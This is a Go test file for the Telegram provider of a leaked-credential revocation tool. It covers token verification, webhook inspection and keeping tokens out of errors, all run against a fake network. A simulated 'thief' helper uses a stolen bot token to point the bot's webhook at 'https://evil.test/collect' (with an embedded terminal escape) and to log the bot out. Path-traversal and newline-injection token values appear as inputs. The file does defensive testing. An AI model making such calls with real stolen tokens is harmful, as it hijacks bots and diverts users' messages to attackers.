package telegram_test

import (
	"context"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"clawback/revoke"
	"clawback/revoke/credential"
	"clawback/revoke/fake"
	"clawback/revoke/providers/telegram"
	"clawback/revoke/providers/telegram/telegramfake"
	"clawback/revoke/revoketest"
)

func TestConformance(t *testing.T) {
	revoketest.Run(t, revoketest.Suite{New: telegram.New, Fake: func(c fake.Clock) fake.Provider { return telegramfake.New(c) }})
}

func world(t *testing.T) (*telegramfake.Fake, revoke.Provider, *http.Client) {
	t.Helper()
	f := telegramfake.New(fake.Wall{})
	n := fake.NewNetwork(f)
	client := n.Client()
	t.Cleanup(func() {
		client.CloseIdleConnections()
		_ = n.Close()
	})
	p, err := telegram.New(revoke.Env{HTTP: client, Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	return f, p, client
}

// thief calls a method with the token, as whoever stole it does.
func thief(t *testing.T, client *http.Client, c credential.Credential, method string, form url.Values) {
	t.Helper()
	resp, err := client.PostForm("https://api.telegram.org/bot"+c.Secret.Reveal("value")+"/"+method, form)
	if err != nil {
		t.Fatal(revoke.WithoutURL(err))
	}
	_ = resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("%s: %s", method, resp.Status)
	}
}

func TestVerifyReadsTheBody(t *testing.T) {
	f, p, _ := world(t)
	for name, c := range map[string]struct {
		fault fake.Fault
		want  revoke.Outcome
	}{
		"served":               {fake.Fault{}, revoke.Alive},
		"unauthorized":         {fake.Fault{Status: 401, Body: `{"ok":false,"error_code":401,"description":"Unauthorized"}`}, revoke.Refused},
		"never a token":        {fake.Fault{Status: 401, Body: `{"ok":false,"error_code":401,"description":"Unauthorized: invalid token specified"}`}, revoke.Inconclusive},
		"server's own fault":   {fake.Fault{Status: 401, Body: `{"ok":false,"error_code":401,"description":"Unauthorized: invalid api-id/api-hash"}`}, revoke.Inconclusive},
		"another code":         {fake.Fault{Status: 401, Body: `{"ok":false,"error_code":403,"description":"Unauthorized"}`}, revoke.Inconclusive},
		"another status":       {fake.Fault{Status: 200, Body: `{"ok":false,"error_code":401,"description":"Unauthorized"}`}, revoke.Inconclusive},
		"ok, and an error":     {fake.Fault{Status: 401, Body: `{"ok":true,"error_code":401,"description":"Unauthorized"}`}, revoke.Inconclusive},
		"no ok":                {fake.Fault{Status: 401, Body: `{"error_code":401,"description":"Unauthorized"}`}, revoke.Inconclusive},
		"proxy":                {fake.Fault{Status: 401, Body: `<html>Unauthorized</html>`}, revoke.Inconclusive},
		"not found":            {fake.Fault{Status: 404, Body: `{"ok":false,"error_code":404,"description":"Not Found"}`}, revoke.Inconclusive},
		"moved":                {fake.Fault{Status: 400, Body: `{"ok":false,"error_code":400,"description":"Logged out"}`}, revoke.Inconclusive},
		"elsewhere":            {fake.Fault{Status: 421, Body: `{"ok":false,"error_code":421,"description":"Misdirected Request: unallowed token specified"}`}, revoke.Inconclusive},
		"another reads it":     {fake.Fault{Status: 409, Body: `{"ok":false,"error_code":409,"description":"Conflict: terminated by other getUpdates request"}`}, revoke.Inconclusive},
		"too many":             {telegramfake.TooMany(7 * time.Second), revoke.Inconclusive},
		"restart":              {fake.Fault{Status: 500, Body: `{"ok":false,"error_code":500,"description":"Internal Server Error: restart"}`}, revoke.Inconclusive},
		"nobody":               {fake.Fault{Status: 200, Body: `{"ok":true}`}, revoke.Inconclusive},
		"nobody, by id":        {fake.Fault{Status: 200, Body: `{"ok":true,"result":{"is_bot":true}}`}, revoke.Inconclusive},
		"half":                 {fake.Fault{Status: 401, Body: `{"ok":false,"error_code":401,"description":"Unauthorized"`}, revoke.Inconclusive},
		"cut":                  {fake.Fault{Status: 401, Cut: true}, revoke.Inconclusive},
		"result of wrong type": {fake.Fault{Status: 200, Body: `{"ok":true,"result":true}`}, revoke.Inconclusive},
	} {
		f.Knobs().SetFault(func(*http.Request) fake.Fault { return c.fault })
		v := p.Verify(t.Context(), f.Mint("telegram.bot"))
		if v.Outcome != c.want || v.Answer == "" || v.RetryAfter != c.fault.RetryAfter {
			t.Errorf("%s: %s %q, retry after %s; want %s", name, v.Outcome, v.Answer, v.RetryAfter, c.want)
		}
	}
}

// Inspect shows where a bot's messages go: a thief may have set it.
func TestInspectShowsTheWebhook(t *testing.T) {
	f, p, client := world(t)
	c := f.Mint("telegram.bot")
	last := func() string {
		e, err := p.Inspect(t.Context(), c)
		if err != nil || !strings.HasPrefix(e.Account, "@deploy_") || e.Owner != "bot "+c.Ref["id"] || len(e.Reach) != 2 {
			t.Fatalf("%+v, %v", e, err)
		}
		return e.Reach[1]
	}
	if got := last(); !strings.HasPrefix(got, "no webhook is set") {
		t.Error(got)
	}
	thief(t, client, c, "setWebhook", url.Values{"url": {"https://evil.test/collect\x1b[2K"}})
	if got := last(); got != "its messages go to the webhook https://evil.test/collect at 203.0.113.7" {
		t.Errorf("%q", got)
	}
	f.Knobs().SetFault(func(r *http.Request) fake.Fault {
		if strings.HasSuffix(r.URL.Path, "getWebhookInfo") {
			return fake.Fault{Status: 502, Body: "<html>"}
		}
		return fake.Fault{}
	})
	if got := last(); !strings.HasPrefix(got, "where its messages go is not known") {
		t.Errorf("%q", got)
	}
}

// A thief who moves the bot to a server of his own is not taken for a dead token.
func TestABotThatWasMovedIsNotDead(t *testing.T) {
	f, p, client := world(t)
	c := f.Mint("telegram.bot")
	thief(t, client, c, "logOut", nil)
	if v := p.Verify(t.Context(), c); v.Outcome != revoke.Inconclusive || !strings.Contains(v.Answer, "another Bot API server") {
		t.Errorf("%s %q", v.Outcome, v.Answer)
	}
}

func TestWhatIsNeverAsked(t *testing.T) {
	f, p, _ := world(t)
	good := f.Mint("telegram.bot").Secret.Reveal("value")
	for name, c := range map[string]credential.Credential{
		"climbs":       {Kind: "telegram.bot", Secret: credential.Value(good[:30] + "/../../x/")},
		"a query":      {Kind: "telegram.bot", Secret: credential.Value(good + "?x")},
		"no id":        {Kind: "telegram.bot", Secret: credential.Value("abc" + good)},
		"a zero":       {Kind: "telegram.bot", Secret: credential.Value("0" + good)},
		"a line":       {Kind: "telegram.bot", Secret: credential.Value(good + "\n")},
		"no value":     {Kind: "telegram.bot"},
		"a webhook's":  f.Mint("telegram.webhook_secret"),
		"another kind": {Kind: "telegram.other", Secret: credential.Value(good)},
	} {
		if v := p.Verify(t.Context(), c); v.Outcome != revoke.Inconclusive || v.Answer == "" {
			t.Errorf("%s: %s %q", name, v.Outcome, v.Answer)
		}
		if _, err := p.Inspect(t.Context(), c); err == nil {
			t.Errorf("%s: inspected", name)
		}
	}
	if calls := f.Knobs().Calls(); len(calls) > 0 {
		t.Errorf("sent %+v", calls)
	}
}

// The token is part of every address: no error shows it, of a client either that quotes addresses.
func TestNoErrorShowsTheAddress(t *testing.T) {
	c := telegramfake.New(fake.Wall{}).Mint("telegram.bot")
	_, secret, _ := strings.Cut(c.Secret.Reveal("value"), ":")
	p, err := telegram.New(revoke.Env{HTTP: &http.Client{Transport: failing{}}})
	if err != nil {
		t.Fatal(err)
	}
	v := p.Verify(t.Context(), c)
	_, err = p.Inspect(t.Context(), c)
	if text := v.Answer + err.Error(); v.Outcome != revoke.Inconclusive || strings.Contains(text, secret[8:16]) || !strings.Contains(text, "no route") {
		t.Errorf("%s: shown as %d bytes, or not at all", v.Outcome, len(text))
	}
}

type failing struct{}

func (failing) RoundTrip(r *http.Request) (*http.Response, error) {
	return nil, errors.New("no route to " + r.URL.String())
}

func TestRevokeIsForPeople(t *testing.T) {
	f, p, _ := world(t)
	if _, err := p.Revoke(t.Context(), f.Mint("telegram.bot")); !errors.Is(err, revoke.ErrManual) {
		t.Error(err)
	}
	if _, err := p.Revoke(t.Context(), credential.Credential{Kind: "telegram.other"}); err == nil || errors.Is(err, revoke.ErrManual) {
		t.Error(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := p.Revoke(ctx, f.Mint("telegram.bot")); !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
}

func TestFormat(t *testing.T) {
	value := telegramfake.New(fake.Wall{}).Mint("telegram.bot").Secret.Reveal("value")
	if k, ok := credential.Recognize(value); !ok || k.Name != "telegram.bot" {
		t.Errorf("recognized as %q", k.Name)
	}
}
